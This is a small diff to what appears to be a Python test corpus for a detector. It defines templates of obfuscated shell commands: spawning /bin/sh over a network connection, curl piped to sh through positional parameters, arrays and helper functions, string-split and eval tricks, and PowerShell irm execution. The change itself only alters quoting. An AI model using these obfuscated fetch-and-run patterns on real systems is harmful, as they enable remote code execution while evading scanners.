@@ -54,7 +54,7 @@ UNITS = {
     "connections": "s = net.connect(1); spawn('/bin/sh'); s.pipe(x)\n",
     "joined strings": "a{n} = 'cu' + 'rl'\nb = 'x' + a{n} + 'y'\n",
     "tables of strings": "t{n} = ['eval', 'b']\nx[t{n}[0]](y)\n",
-    "positional words": "set -- curl x{n}\n\"$@\" | sh\n",
+    "positional words": 'set -- curl x{n}\n"$@" | sh\n',
     "elements": "t[k{n}]=curl\n${t[k{n}]} x | sh\n",
     "helpers": 'h{n}() { shift; "$@"; }\nh{n} a curl x.example\n',
     "PowerShell": "$a = [char]105+[char]101; & ('{n}' -f 'a') (irm x)\n",
